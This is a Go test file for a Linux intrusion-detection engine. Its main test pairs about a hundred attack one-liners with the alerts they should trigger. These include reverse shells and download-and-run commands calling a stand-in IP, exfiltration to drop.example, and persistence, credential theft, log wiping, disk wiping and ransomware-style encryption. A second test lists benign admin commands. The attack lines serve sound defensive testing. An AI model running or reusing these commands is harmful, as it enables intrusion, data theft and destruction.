package detect

import (
	"testing"

	"github.com/bulkheadhq/bulkhead/agent/activity"
)

// raised are the types of alerts that a script raises, run by somebody who signed in.
func raised(text string, root bool) map[string]Severity {
	out := map[string]Severity{}
	m := New(DefaultParams(), ShippedIndicators(), func(f *Finding) { out[f.Alert.Type] = max(out[f.Alert.Type], f.Alert.Severity) })
	s := newShell(func(e *activity.Event) { m.Apply(e) }, root)
	s.run(&scope{pid: s.exec(&scope{pid: 3000, dir: s.home}, []string{"-bash"}), dir: s.home, vars: map[string]string{}}, "/bin/bash", text)
	return out
}

// TestBehaviours: ways of doing what attackers do, each with the alert that it raises.
func TestBehaviours(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		script string
		want   *Alert
	}{
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", &reverseShell},
		{"exec 7<>/dev/udp/203.0.113.9/53; sh <&7 >&7 2>&7", &reverseShell},
		{"rm -f /tmp/q; mkfifo /tmp/q; cat /tmp/q | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/q", &reverseShell},
		{"ncat --ssl 203.0.113.9 443 -e /bin/bash", &reverseShell},
		{`ruby -rsocket -e 'c=TCPSocket.new("203.0.113.9","80");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end; exec "/bin/sh"'`, &reverseShell},
		{`php -r '$s=fsockopen("203.0.113.9",4242);exec("/bin/sh <&3 >&3 2>&3");'`, &reverseShell},
		{"telnet 203.0.113.9 80 | /bin/bash | telnet 203.0.113.9 81", &reverseShell},
		{"socat tcp:203.0.113.9:5000 exec:/bin/bash,pty,stderr", &reverseShell},
		{"wget -qO- http://203.0.113.9/i | bash -s -- x", &downloadAndRun},
		{`sh -c "$(curl -fsSL http://203.0.113.9/i)"`, &downloadAndRun},
		{"printf aWQK | base64 --decode | sh", &decodedRun},
		{"echo 6964 | xxd -r -p | bash", &decodedRun},
		{`python3 -c 'import base64;exec(base64.b64decode("aWQ="))'`, &decodedRun},
		{`find . -exec /bin/sh \; -quit`, &shellEscape},
		{"vim -c ':!/bin/sh'", &shellEscape},
		{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh", &shellEscape},
		{"gdb -nx -ex '!sh' -ex quit", &shellEscape},
		{"echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", &sshKeyAdded},
		{"echo '@reboot root /dev/shm/k' | sudo tee -a /etc/crontab", &cronChanged},
		{"(crontab -l; echo '* * * * * curl http://203.0.113.9/u | sh') | crontab -", &cronChanged},
		{"cp x.service /usr/lib/systemd/system/", &unitChanged},
		{"sed -i 's/^exit/\\/tmp\\/k \\&\\nexit/' /etc/rc.local", &bootChanged},
		{"echo 'nohup /var/tmp/k &' >> ~/.zshrc", &profileChanged},
		{"printf 'alias sudo=/tmp/s' >> ~/.bashrc", &profileChanged},
		{"echo /dev/shm/l.so > /etc/ld.so.preload", &preloadChanged},
		{"LD_PRELOAD=/dev/shm/l.so id", &preloadChanged},
		{"echo 'ACTION==\"add\", RUN+=\"/tmp/k\"' > /etc/udev/rules.d/99-k.rules", &startupHook},
		{"cp k.sh /etc/update-motd.d/98-k", &startupHook},
		{"sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd", &signInChanged},
		{"useradd -o -u 0 -g 0 toor", &rootTwin},
		{"echo 'eve:x:0:0::/root:/bin/bash' >> /etc/passwd", &accountFileChanged},
		{"usermod -aG docker,shadow eve", &privilegeGranted},
		{"usermod -s /bin/bash nobody", &serviceSignIn},
		{"echo 'eve ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/eve", &sudoersChanged},
		{"install -m 4755 /bin/bash /tmp/b; chmod 4755 /tmp/b", &setuidSet},
		{"setcap cap_dac_override,cap_setuid+ep /tmp/b", &capabilitySet},
		{"find / -perm /6000 -type f", &setuidSearch},
		{"insmod ./r.ko", &moduleLoaded},
		{"chattr +i /etc/crontab", &immutable},
		{"mkdir /dev/shm/.x", &hiddenPlace},
		{"mkdir '/tmp/.. '", &hiddenPlace},
		{"cp /bin/dash /var/tmp/kworker", &programCopied},
		{"HISTFILE=/dev/null bash; export HISTSIZE=0", &historyCleared},
		{"ln -sf /dev/null ~/.zsh_history", &historyCleared},
		{": > /var/log/auth.log", &logRemoved},
		{"shred -zu /var/log/wtmp", &logRemoved},
		{"journalctl --vacuum-size=1", &logRemoved},
		{"auditctl -D", &loggingImpaired},
		{"systemctl mask --now rsyslog", &loggingImpaired},
		{"nft flush ruleset", &firewallOff},
		{"iptables -P INPUT ACCEPT", &firewallOff},
		{"setenforce Permissive", &protectionOff},
		{"apt-get remove -y clamav-daemon", &protectionOff},
		{"touch -d '2001-01-01' k", &timestamps},
		{"base64 < /etc/shadow", &shadowRead},
		{`perl -e 'open(F,"/etc/shadow");print <F>'`, &shadowRead},
		{"tail -n +1 ~/.aws/credentials", &cloudCredentials},
		{"cp " + homes + "/eve/.ssh/id_ed25519 /tmp/k", &privateKeyRead},
		{"curl -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'", &metadataCredentials},
		{"grep -rniE 'api_key|secret' /var/www", &secretSearch},
		{"gdb --batch -p 812 -ex 'generate-core-file'", &memoryRead},
		{"dd if=/proc/812/mem of=/tmp/m bs=1", &memoryRead},
		{"tcpdump -w /tmp/c -i any port 21", &captureKept},
		{"xwd -root -out /tmp/s", &userCapture},
		{"grep -i passw ~/.bash_history", &historySearched},
		{"tar cz /etc | curl -T - https://drop.example/x; curl --upload-file /tmp/x.tgz https://drop.example/", &egress},
		{"tar czf - /srv | ssh a@203.0.113.9 'cat > x'", &egress},
		{"nc 203.0.113.9 9000 < /tmp/x.tgz", &egress},
		{"dig $(base64 /etc/hostname).t.example", &encodedName},
		{"ssh -fNR 2222:localhost:22 a@203.0.113.9", &portForward},
		{"chisel client 203.0.113.9:80 R:socks", &tunnelTool},
		{"for i in $(seq 1 254); do ping -c 1 10.0.0.$i; done", &portScanTool},
		{"docker run -it -v /:/mnt alpine chroot /mnt", &openContainer},
		{"nsenter --target 1 --mount sh", &hostEntered},
		{"curl --unix-socket /var/run/docker.sock http://x/containers/json", &containerControl},
		{"echo /tmp/k > /proc/sys/kernel/core_pattern", &kernelHelperSet},
		{"openssl enc -aes-256-cbc -k x -in a -out a.enc; ccrypt -K x /srv/a1 /srv/b /srv/c; gpg --batch --passphrase x -c /srv/d; zip -P x z /srv/e; 7z a -px z.7z /srv/f /srv/g; gpg --batch --passphrase-file p -c h; age -r k -o i.age i", &massEncrypted},
		{"dd if=/dev/urandom of=/dev/sda bs=1M", &diskWiped},
		{"rm -rf --no-preserve-root /", &wiped},
		{"systemctl stop mysql; systemctl stop nginx; systemctl stop redis", &servicesStopped},
		{"for u in a b c; do :; done; userdel a; userdel b; userdel c", &accountsLost},
		{"lvremove -f vg0/snap", &recoveryInhibited},
		{"./x -o stratum+tcp://pool.example:3333", &mining},
		{":(){ :|:& };:", &burned},
		{"python3 /tmp/holiday.jpg", &dataRun},
		{"getent passwd > /dev/shm/u", &accountsKept},
		{"awk -F: '{print $1}' /etc/passwd >> /var/tmp/n", &accountsKept},
		{"echo 'cd /opt' > /tmp/q; echo './run' >> /tmp/q; sh /tmp/q", &typedTemp},
		{"printf 'import os' > ~/n; printf 'from urllib import request as r' >> ~/n; printf 'os.popen(r.urlopen(X).read())' >> ~/n; python3 ~/n", &typedDropper},
		{"tshark -i eth0; tcpdump -ni eth0", &captureTried},
		{"split -n 20 /dev/shm/all.tgz /dev/shm/p", &partsStaged},
		{"if true; then /sbin/poweroff -f; fi", &stoppedByScript},
		{"shutdown -P now", &stoppedByScript},
		{"wget -qO- http://ip-api.com/json", &placeAsked},
	} {
		if got := raised(c.script, true); got[c.want.Type] != c.want.Severity {
			t.Errorf("%s\nraises %v, not %s", c.script, got, c.want.Type)
		}
	}
}

// TestBehaviours_Benign: what administrators and developers do all day raises nothing of medium severity.
func TestBehaviours_Benign(t *testing.T) {
	t.Parallel()
	for _, script := range []string{
		"export PATH=$PATH:~/go/bin; echo 'export PATH=$PATH:~/go/bin' >> ~/.bashrc",
		`echo 'eval "$(starship init bash)"' >> ~/.bashrc`,
		"find . -name '*.go' -exec gofmt -l {} +; grep -rn token . | head",
		"kubectl get pods; docker ps; docker run --rm -v $PWD:/src golang go test ./...",
		"tar czf release.tgz dist; sha256sum release.tgz; scp release.tgz ci@build.example:/srv/",
		"curl -fsSLO https://example.com/a.tgz; tar xzf a.tgz; cd a && ./configure && make && sudo make install",
		"trap 'rm -rf $T' EXIT INT TERM; T=$(mktemp -d); cp a $T",
		"systemctl restart nginx; journalctl -u nginx -n 50; tail -f /var/log/nginx/error.log",
		"sudo apt-get update; sudo apt-get install -y jq; sudo apt-get remove -y jq",
		"git log --oneline | head; git push origin main; ssh -L 8080:localhost:80 host",
		"chmod +x run.sh; ./run.sh; chmod 644 a; chmod 755 b; chown user:user a",
		"openssl req -x509 -newkey rsa:2048 -keyout key.pem -out cert.pem -days 1 -nodes -subj /CN=x; openssl x509 -in cert.pem -noout -text",
		"cat /etc/os-release; uname -r; free -m; df -h; uptime",
		"echo $SECRET | base64; kubectl get configmap x -o yaml; echo aGVsbG8= | base64 -d",
		"crontab -l; (crontab -l; echo '0 3 * * * /usr/local/bin/backup') | crontab -",
		"useradd -m -s /bin/bash alice; usermod -aG sudo alice; passwd alice",
		"rm -rf node_modules dist; npm ci; npm run build",
		"vim /srv/app/config.yaml; less README; ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''; ssh-copy-id host; ssh -i ~/.ssh/id_ed25519 host uptime",
		"touch a; touch -r a b; date; sleep 1; kill %1; kill -9 4242; pkill -f myserver",
		"python3 -m venv .venv; .venv/bin/pip install requests; .venv/bin/python -c 'import socket; print(socket.gethostname())'",
		"timeout 5 bash -c '</dev/tcp/db.example/5432' && echo up; nc -zv db 5432",
		"rsync -a /srv/ backup:/srv/; gzip -9 access.log.1; truncate -s 0 app.log; echo > /dev/null",
		"getent passwd | cut -d: -f1 > users.txt; T=$(mktemp); getent group > $T; diff $T groups.txt; last > /root/signins",
		"echo '[Unit]' > app.conf; echo 'x=1' >> app.conf; cat app.conf; echo 'echo hi' > run.sh; sh run.sh; T=$(mktemp); echo id > $T; echo date >> $T; sh $T",
		"cat > fetch.py <<'X'\nimport requests, subprocess\nsubprocess.run(['ls'])\nX\npython3 fetch.py",
		"cd /var/backups; tar czf etc.tgz /etc/nginx; gpg --batch --passphrase-file /root/.p -o etc.tgz.gpg -c etc.tgz; openssl enc -aes-256-cbc -pbkdf2 -pass file:/root/.p -in db.sql -out db.enc; if true; then cp -p /etc/passwd /etc/shadow /var/backups/daily/; fi",
		"T=conf$$; echo '#!/bin/sh' > conf42.file; chmod +x conf42.file; ./conf42.file; rm -f conf42 conf42.file; truncate -s 0 app.log",
		"mkdir -p \"` echo /srv/ops/.ansible/tmp `\" && mkdir \"` echo /srv/ops/.ansible/tmp/t-1 `\"; for i in 1; do chmod u+rwx /srv/ops/.ansible/tmp/t-1/ /srv/ops/.ansible/tmp/t-2/; rm -f -r /srv/ops/.ansible/tmp/t-1/; done",
		"scp build@ci.example:run.sh .; chmod +x run.sh; ./run.sh; rm run.sh; id -u; id -un; uptime; df -h; free -m; ps aux; ss -tln",
		"tcpdump -c 100 -ni eth0 port 53; split -b 100M /srv/backup/all.tgz /srv/backup/all.tgz.part; shutdown -r +10 'patches'; curl -s ifconfig.me; curl -s https://ipinfo.io/ip",
	} {
		for kind, s := range raised(script, true) {
			if s >= Medium {
				t.Errorf("%s\nraises %s (%s)", script, kind, s)
			}
		}
	}
}
